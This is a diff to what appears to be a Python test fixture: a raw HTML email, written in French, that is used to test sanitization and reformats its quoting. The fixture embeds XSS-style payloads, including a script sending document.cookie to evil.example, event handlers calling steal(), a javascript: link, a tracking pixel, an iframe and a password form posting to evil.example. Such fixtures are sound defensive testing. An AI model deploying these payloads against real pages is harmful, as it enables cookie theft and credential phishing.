@@ -30,13 +30,13 @@ HTML_ONLY = (
     b"Content-Type: text/html; charset=utf-8\r\n"
     b"\r\n"
     b"<html><head><style>p{display:none}</style><script>alert('head')</script></head>"
-    b"<body onload=\"steal()\"><p onclick=\"steal()\" style=\"color:red\">Bonjour, "
+    b'<body onload="steal()"><p onclick="steal()" style="color:red">Bonjour, '
     b"<b>mon allocation</b> n'est pas arriv\xc3\xa9e.</p>"
     b"<script>document.location='https://evil.example/'+document.cookie</script>"
-    b"<img src=\"https://tracker.example/pixel.gif\" onerror=\"steal()\">"
-    b"<a href=\"javascript:steal()\">cliquez</a> <a href=\"https://www.caf.fr\">caf.fr</a>"
-    b"<iframe src=\"https://evil.example/\"></iframe><form action=\"https://evil.example/\">"
-    b"<input name=\"pw\"></form></body></html>\r\n"
+    b'<img src="https://tracker.example/pixel.gif" onerror="steal()">'
+    b'<a href="javascript:steal()">cliquez</a> <a href="https://www.caf.fr">caf.fr</a>'
+    b'<iframe src="https://evil.example/"></iframe><form action="https://evil.example/">'
+    b'<input name="pw"></form></body></html>\r\n'
 )
 
 
